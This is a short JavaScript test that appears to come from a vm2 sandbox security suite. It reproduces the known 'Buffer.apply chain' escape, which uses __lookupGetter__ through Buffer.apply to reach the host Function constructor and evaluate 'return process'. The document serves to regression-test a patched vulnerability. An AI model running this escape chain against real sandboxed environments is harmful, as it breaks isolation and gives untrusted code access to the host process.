// Source: vm2 test/vm.js "constructor arbitrary code attack" and docs/ATTACKS.md Category 10
// ("Buffer.apply chain").
// Tried: `({}).__lookupGetter__` applied through the host Buffer.apply to get the host `__proto__`
// getter, then `p.call(a).constructor` = host Function.prototype.constructor.
// vm2 3.12 refuses the host `__proto__` getter this walk starts from (GHSA-88hf); so that the rest of
// the PoC still runs, it falls back to Object.getPrototypeOf, answered with vm2's mapped prototypes.
const out = {};
try {
  const g = ({}).__lookupGetter__;
  const a = Buffer.apply;
  const p = a.apply(g, [Buffer, ['__proto__']]);
  out.getter = typeof p;
  const fp = typeof p === 'function' ? p.call(a) : Object.getPrototypeOf(a);
  __wr.use(fp, 'host Function.prototype');
  __wr.use(fp.constructor, 'p.call(a).constructor');
  fp.constructor('return process')();
} catch (e) { out.error = String(e.message); }
return out;
